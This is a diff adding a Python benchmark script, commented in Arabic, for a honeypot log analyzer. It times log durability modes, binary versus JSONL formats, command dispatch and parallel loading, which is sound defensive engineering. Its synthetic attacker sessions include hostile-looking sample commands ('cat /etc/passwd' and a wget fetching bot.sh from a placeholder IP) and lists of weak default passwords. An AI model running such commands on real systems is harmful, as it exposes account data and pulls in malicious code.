@@ -0,0 +1,429 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+"""
+Interactive Honeypot Data Analyzer
+مشروع محلل بيانات مصيدة التسلل التفاعلي
+
+قياسات الأداء لمكونات المشروع
+
+الاستخدام:
+    python benchmarks.py durability [--events N] [--rate R]
+    python benchmarks.py binary-format [--records N]
+    python benchmarks.py command-dispatch [--extra N] [--iterations N]
+    python benchmarks.py load-memory [--records N] [--log-file PATH]
+    python benchmarks.py parallel-load [--records N] [--workers 1,2,4,8]
+"""
+
+import argparse
+import datetime
+import json
+import multiprocessing
+import os
+import random
+import shutil
+import tempfile
+import threading
+import time
+from typing import Dict, Any, List
+
+import event_format
+from command_engine import CommandEngine, DEFAULT_COMMANDS_FILE
+from log_writer import LogWriter, DURABILITY_MODES
+
+def percentile(values: List[float], pct: float) -> float:
+    """
+    حساب النسبة المئوية (بدون numpy)
+    """
+    if not values:
+        return 0.0
+    ordered = sorted(values)
+    index = min(len(ordered) - 1, int(round(pct / 100.0 * (len(ordered) - 1))))
+    return ordered[index]
+
+def sample_record(i: int) -> Dict[str, Any]:
+    """
+    سجل بنفس شكل سجلات المصيدة
+    """
+    return {
+        "timestamp": datetime.datetime.now().isoformat(),
+        "client_ip": f"203.0.113.{i % 250}",
+        "client_port": 30000 + i % 30000,
+        "session_id": f"session_{int(time.time())}_{30000 + i % 30000}",
+        "interaction_type": "command_execution",
+        "content": "cat /etc/passwd",
+        "response_sent": ""
+    }
+
+def bench_durability(events: int = 50000, producers: int = 8, rate: int = 5000) -> List[Dict[str, Any]]:
+    """
+    قياس السجلات/ثانية وزمن التثبيت p99 لكل وضع متانة
+
+    مرحلتان لكل وضع:
+      1. الإنتاجية القصوى: عدة خيوط تضيف السجلات بأسرع ما يمكن
+      2. زمن التثبيت: حمل ثابت بمعدل rate سجل/ثانية، والزمن يُقاس حتى مستوى الضمان الخاص بالوضع
+    """
+    results = []
+    work_dir = tempfile.mkdtemp(prefix="honeypot_bench_")
+
+    try:
+        for mode in DURABILITY_MODES:
+            # المرحلة 1: الإنتاجية القصوى
+            path = os.path.join(work_dir, f"throughput_{mode}.json")
+            writer = LogWriter(path, max_queue=events, durability=mode, latency_samples=events)
+            per_producer = events // producers
+
+            def produce(offset):
+                for i in range(per_producer):
+                    writer.submit(sample_record(offset + i))
+
+            started = time.perf_counter()
+            threads = [threading.Thread(target=produce, args=(p * per_producer,))
+                       for p in range(producers)]
+            for thread in threads:
+                thread.start()
+            for thread in threads:
+                thread.join()
+            writer.close()
+            elapsed = time.perf_counter() - started
+            throughput = writer.written / elapsed if elapsed else 0.0
+
+            # المرحلة 2: زمن التثبيت تحت حمل ثابت
+            path = os.path.join(work_dir, f"latency_{mode}.json")
+            writer = LogWriter(path, max_queue=events, durability=mode, latency_samples=events)
+            paced_events = min(events, rate * 3)
+            started = time.perf_counter()
+            for i in range(paced_events):
+                writer.submit(sample_record(i))
+                if i % 50 == 0:
+                    delay = started + i / rate - time.perf_counter()
+                    if delay > 0:
+                        time.sleep(delay)
+            writer.close()
+            latencies = list(writer.latencies)
+
+            results.append({
+                'mode': mode,
+                'events_per_sec': throughput,
+                'p50_ms': percentile(latencies, 50) * 1000,
+                'p99_ms': percentile(latencies, 99) * 1000,
+                'fsyncs': writer.fsyncs,
+                'events_per_fsync': writer.written / writer.fsyncs if writer.fsyncs else 0.0
+            })
+    finally:
+        shutil.rmtree(work_dir, ignore_errors=True)
+
+    print(f"{'mode':<10}{'events/sec':>14}{'p50 ms':>10}{'p99 ms':>10}{'fsyncs':>9}{'events/fsync':>14}")
+    for r in results:
+        print(f"{r['mode']:<10}{r['events_per_sec']:>14,.0f}{r['p50_ms']:>10.2f}{r['p99_ms']:>10.2f}"
+              f"{r['fsyncs']:>9}{r['events_per_fsync']:>14.1f}")
+
+    return results
+
+def synthetic_log(path: str, records: int, seed: int = 7) -> int:
+    """
+    كتابة سجل JSONL واقعي الشكل (جلسات كاملة من عدة آلاف من عناوين IP)
+    """
+    rng = random.Random(seed)
+    usernames = ['admin', 'root', 'user', 'test', 'guest', 'pi', 'ubuntu', 'oracle']
+    passwords = ['123456', 'password', 'admin', 'root', '123', 'qwerty', 'letmein', 'P@ssw0rd']
+    commands = ['ls', 'pwd', 'whoami', 'ps', 'uname -a', 'cat /etc/passwd',
+                'wget http://198.51.100.7/bot.sh', 'cd /tmp', 'exit']
+    timestamp = datetime.datetime(2025, 1, 1)
+    written = 0
+    encoder = event_format.JsonlEncoder()
+
+    with open(path, 'wb') as f:
+        while written < records:
+            ip = f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+            port = rng.randint(30000, 65000)
+            session_id = f"session_{int(timestamp.timestamp())}_{port}"
+            username = rng.choice(usernames)
+            password = rng.choice(passwords) if rng.random() < 0.8 else f"pw{rng.randint(0, 10**6)}"
+            steps = [("connection_established", "New connection established", ""),
+                     ("username_attempt", username, ""),
+                     ("password_attempt", f"{username}:{password}", "")]
+            if rng.random() < 0.6:
+                steps.append(("login_success", f"{username}:{password}", "Login successful"))
+                steps.extend(("command_execution", rng.choice(commands), "")
+                             for _ in range(rng.randint(1, 6)))
+            steps.append(("connection_closed", "Connection closed", ""))
+
+            for interaction_type, content, response in steps:
+                timestamp += datetime.timedelta(microseconds=rng.randint(1, 2000000))
+                f.write(encoder.encode({
+                    "timestamp": timestamp.isoformat(),
+                    "client_ip": ip,
+                    "client_port": port,
+                    "session_id": session_id,
+                    "interaction_type": interaction_type,
+                    "content": content,
+                    "response_sent": response
+                }))
+                written += 1
+    return written
+
+def bench_binary_format(records: int = 200000) -> Dict[str, Any]:
+    """
+    مقارنة JSONL بالصيغة الثنائية: الحجم، زمن التسلسل، وزمن القراءة
+    """
+    work_dir = tempfile.mkdtemp(prefix="honeypot_bench_")
+    try:
+        jsonl_path = os.path.join(work_dir, "log.json")
+        binary_path = os.path.join(work_dir, "log.hpev")
+        records = synthetic_log(jsonl_path, records)
+        with open(jsonl_path, 'r', encoding='utf-8') as f:
+            parsed = [json.loads(line) for line in f]
+
+        # التسلسل (ما يفعله خيط الكتابة لكل دفعة)
+        jsonl_encoder = event_format.JsonlEncoder()
+        started = time.perf_counter()
+        for i in range(0, len(parsed), 4096):
+            jsonl_encoder.frame([jsonl_encoder.encode(r) for r in parsed[i:i + 4096]])
+        jsonl_encode = time.perf_counter() - started
+
+        binary_encoder = event_format.BinaryEventEncoder()
+        started = time.perf_counter()
+        for i in range(0, len(parsed), 4096):
+            binary_encoder.frame([binary_encoder.encode(r) for r in parsed[i:i + 4096]])
+        binary_encode = time.perf_counter() - started
+        del parsed
+
+        event_format.jsonl_to_binary(jsonl_path, binary_path)
+        jsonl_bytes = os.path.getsize(jsonl_path)
+        binary_bytes = os.path.getsize(binary_path)
+
+        # القراءة: json.loads لكل سطر (كما في load_data) مقابل القراءة العمودية
+        started = time.perf_counter()
+        with open(jsonl_path, 'r', encoding='utf-8') as f:
+            rows = [json.loads(line) for line in f if line.strip()]
+        jsonl_parse = time.perf_counter() - started
+        del rows
+
+        started = time.perf_counter()
+        with open(binary_path, 'rb') as f:
+            event_format.read_columns(f.read())
+        binary_parse = time.perf_counter() - started
+    finally:
+        shutil.rmtree(work_dir, ignore_errors=True)
+
+    result = {
+        'records': records,
+        'jsonl_bytes': jsonl_bytes,
+        'binary_bytes': binary_bytes,
+        'size_ratio': jsonl_bytes / binary_bytes,
+        'jsonl_encode_sec': jsonl_encode,
+        'binary_encode_sec': binary_encode,
+        'jsonl_parse_sec': jsonl_parse,
+        'binary_parse_sec': binary_parse,
+        'parse_speedup': jsonl_parse / binary_parse if binary_parse else 0.0
+    }
+
+    print(f"records:       {records:,}")
+    print(f"bytes:         jsonl {jsonl_bytes:,}  binary {binary_bytes:,}  ({result['size_ratio']:.1f}x smaller)")
+    print(f"encode (sec):  jsonl {jsonl_encode:.3f}  binary {binary_encode:.3f}")
+    print(f"parse (sec):   jsonl {jsonl_parse:.3f}  binary {binary_parse:.3f}  ({result['parse_speedup']:.1f}x faster)")
+    return result
+
+def bench_command_dispatch(extra: int = 1000, iterations: int = 200000) -> List[Dict[str, Any]]:
+    """
+    زمن تنفيذ أمر واحد في محرك الأوامر: الجدول الافتراضي مقابل جدول مضاف إليه
+    extra أمراً كاملاً و extra كلمة أولى (الزمن يجب ألا يتغير بحجم الجدول)
+    """
+    with open(DEFAULT_COMMANDS_FILE, 'r', encoding='utf-8') as f:
+        spec = json.load(f)
+    padded = json.loads(json.dumps(spec))
+    for i in range(extra):
+        padded["exact"][f"fakecmd{i} --flag"] = f"output {i}"
+        padded["prefix"][f"fakebin{i}"] = f"bash: fakebin{i}: Permission denied"
+
+    commands = ['ls', 'ls -la', 'pwd', 'whoami', 'uname -a', 'cat /etc/passwd',
+                'cd /tmp', 'cd ..', 'wget http://198.51.100.7/bot.sh', 'unknowncmd -x']
+
+    class Session:
+        cwd = "/root"
+
+    results = []
+    for label, table in (("default", spec), (f"+{extra}", padded)):
+        engine = CommandEngine(table)
+        session = Session()
+        batch = commands * (iterations // len(commands))
+        started = time.perf_counter()
+        for command in batch:
+            engine.execute(session, command)
+        elapsed = time.perf_counter() - started
+        results.append({
+            'table': label,
+            'entries': len(engine.exact) + len(engine.prefix),
+            'ns_per_command': elapsed / len(batch) * 1e9,
+            'commands_per_sec': len(batch) / elapsed if elapsed else 0.0
+        })
+
+    print(f"{'table':<10}{'entries':>9}{'ns/command':>13}{'commands/sec':>16}")
+    for r in results:
+        print(f"{r['table']:<10}{r['entries']:>9}{r['ns_per_command']:>13.0f}{r['commands_per_sec']:>16,.0f}")
+    return results
+
+def _max_rss_bytes() -> int:
+    import resource
+    # ru_maxrss بالكيلوبايت على Linux وبالبايت على macOS
+    scale = 1 if os.uname().sysname == "Darwin" else 1024
+    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * scale
+
+def _load_in_child(path: str, loader: str, output: multiprocessing.Queue):
+    import pandas as pd
+    from data_analyzer import HoneypotAnalyzer
+    baseline = _max_rss_bytes()
+    started = time.perf_counter()
+    if loader == "columnar":
+        analyzer = HoneypotAnalyzer(path, cache=False)
+        analyzer.load_data()
+        df = analyzer.df
+    else:
+        # الطريقة السابقة: قائمة قواميس ثم DataFrame منها مع إبقاء الاثنين
+        with open(path, 'r', encoding='utf-8') as f:
+            data = [json.loads(line) for line in f if line.strip()]
+        df = pd.DataFrame(data)
+        try:
+            df['timestamp'] = pd.to_datetime(df['timestamp'], format='ISO8601')
+        except ValueError:  # pandas < 2.0
+            df['timestamp'] = pd.to_datetime(df['timestamp'])
+    output.put({
+        'loader': loader,
+        'seconds': time.perf_counter() - started,
+        'rows': len(df),
+        'peak_rss_bytes': _max_rss_bytes(),
+        'baseline_rss_bytes': baseline,
+        'frame_bytes': int(df.memory_usage(deep=True).sum())
+    })
+
+def bench_load_memory(records: int = 1000000, log_file: str = None,
+                      loaders=("columnar", "legacy")) -> List[Dict[str, Any]]:
+    """
+    ذروة الذاكرة وزمن HoneypotAnalyzer.load_data مقابل الطريقة السابقة (قائمة القواميس)،
+    كل منهما في عملية جديدة حتى لا تختلط الذروتان
+    """
+    work_dir = None
+    if log_file is None:
+        work_dir = tempfile.mkdtemp(prefix="honeypot_bench_")
+        log_file = os.path.join(work_dir, "log.json")
+        synthetic_log(log_file, records)
+    results = []
+    try:
+        context = multiprocessing.get_context("spawn")
+        for loader in loaders:
+            output = context.Queue()
+            process = context.Process(target=_load_in_child, args=(log_file, loader, output))
+            process.start()
+            process.join()
+            if process.exitcode != 0:
+                print(f"[ERROR] فشل قياس {loader} (exitcode={process.exitcode})")
+                continue
+            results.append(output.get())
+    finally:
+        if work_dir:
+            shutil.rmtree(work_dir, ignore_errors=True)
+
+    size = os.path.getsize(log_file) if work_dir is None else None
+    print(f"{'loader':<10}{'rows':>12}{'seconds':>10}{'peak RSS MB':>13}{'loader MB':>11}{'frame MB':>10}{'B/row':>8}")
+    for result in results:
+        loader_bytes = result['peak_rss_bytes'] - result['baseline_rss_bytes']
+        print(f"{result['loader']:<10}{result['rows']:>12,}{result['seconds']:>10.2f}"
+              f"{result['peak_rss_bytes'] / 2**20:>13.0f}{loader_bytes / 2**20:>11.0f}"
+              f"{result['frame_bytes'] / 2**20:>10.0f}{loader_bytes / max(1, result['rows']):>8.0f}")
+    if size:
+        print(f"log file: {size / 2**20:.0f} MB")
+    return results
+
+def bench_parallel_load(records: int = 2000000, workers: List[int] = None,
+                        log_file: str = None) -> List[Dict[str, Any]]:
+    """
+    زمن تحليل JSONL إلى أعمدة بحسب عدد العمليات (mmap + تقسيم على حدود الأسطر)
+    """
+    workers = workers or sorted({1, 2, 4, event_format.available_cpus()})
+    work_dir = None
+    if log_file is None:
+        work_dir = tempfile.mkdtemp(prefix="honeypot_bench_")
+        log_file = os.path.join(work_dir, "log.json")
+        synthetic_log(log_file, records)
+    results = []
+    try:
+        reference = None
+        for count in workers:
+            started = time.perf_counter()
+            columns = event_format.read_jsonl_columns_parallel(log_file, count)
+            seconds = time.perf_counter() - started
+            rows = len(columns["timestamp_us"])
+            # نفس النتيجة مهما كان عدد العمليات
+            if reference is None:
+                reference = columns
+            elif not (_same_array(reference["timestamp_us"], columns["timestamp_us"])
+                      and all(_decoded(reference[c]) == _decoded(columns[c]) for c in ("session_id", "content"))):
+                raise AssertionError(f"نتيجة مختلفة مع {count} عمليات")
+            results.append({'workers': count, 'rows': rows, 'seconds': seconds})
+            del columns
+        size = os.path.getsize(log_file)
+    finally:
+        if work_dir:
+            shutil.rmtree(work_dir, ignore_errors=True)
+
+    base = results[0]['seconds']
+    print(f"file: {size / 2**20:.0f} MB, {results[0]['rows']:,} rows, {event_format.available_cpus()} CPUs available")
+    print(f"{'workers':>8}{'seconds':>10}{'MB/s':>9}{'speedup':>9}{'efficiency':>12}")
+    for result in results:
+        result['speedup'] = base / result['seconds'] * results[0]['workers']
+        print(f"{result['workers']:>8}{result['seconds']:>10.2f}{size / 2**20 / result['seconds']:>9.1f}"
+              f"{result['speedup']:>8.2f}x{result['speedup'] / result['workers'] * 100:>11.0f}%")
+    return results
+
+def _same_array(a, b) -> bool:
+    return len(a) == len(b) and bool((a == b).all())
+
+def _decoded(column) -> List[Any]:
+    codes, categories = column
+    return [categories[code] if code >= 0 else None for code in codes[:100000]]
+
+def main(argv=None):
+    parser = argparse.ArgumentParser(description="Honeypot benchmarks")
+    subparsers = parser.add_subparsers(dest="benchmark", required=True)
+
+    durability = subparsers.add_parser("durability", help="أوضاع متانة كاتب السجلات")
+    durability.add_argument("--events", type=int, default=50000)
+    durability.add_argument("--producers", type=int, default=8)
+    durability.add_argument("--rate", type=int, default=5000,
+                            help="معدل السجلات/ثانية في مرحلة قياس الزمن")
+
+    binary_format = subparsers.add_parser("binary-format", help="JSONL مقابل الصيغة الثنائية")
+    binary_format.add_argument("--records", type=int, default=200000)
+
+    command_dispatch = subparsers.add_parser("command-dispatch", help="زمن تنفيذ الأوامر بحسب حجم الجدول")
+    command_dispatch.add_argument("--extra", type=int, default=1000,
+                                  help="عدد الأوامر الإضافية في الجدول الكبير")
+    command_dispatch.add_argument("--iterations", type=int, default=200000)
+
+    load_memory = subparsers.add_parser("load-memory", help="ذروة ذاكرة تحميل السجل في المحلل")
+    load_memory.add_argument("--records", type=int, default=1000000)
+    load_memory.add_argument("--log-file", default=None, help="سجل موجود بدلاً من سجل مُولَّد")
+    load_memory.add_argument("--loader", choices=["columnar", "legacy", "both"], default="both")
+
+    parallel_load = subparsers.add_parser("parallel-load", help="تحليل JSONL على عدة عمليات")
+    parallel_load.add_argument("--records", type=int, default=2000000)
+    parallel_load.add_argument("--workers", default=None, help="مثال: 1,2,4,8 (الافتراضي حتى عدد الأنوية)")
+    parallel_load.add_argument("--log-file", default=None, help="سجل موجود بدلاً من سجل مُولَّد")
+
+    args = parser.parse_args(argv)
+
+    if args.benchmark == "durability":
+        bench_durability(args.events, args.producers, args.rate)
+    elif args.benchmark == "binary-format":
+        bench_binary_format(args.records)
+    elif args.benchmark == "command-dispatch":
+        bench_command_dispatch(args.extra, args.iterations)
+    elif args.benchmark == "load-memory":
+        loaders = ("columnar", "legacy") if args.loader == "both" else (args.loader,)
+        bench_load_memory(args.records, args.log_file, loaders)
+    elif args.benchmark == "parallel-load":
+        workers = [int(w) for w in args.workers.split(",")] if args.workers else None
+        bench_parallel_load(args.records, workers, args.log_file)
+
+if __name__ == "__main__":
+    main()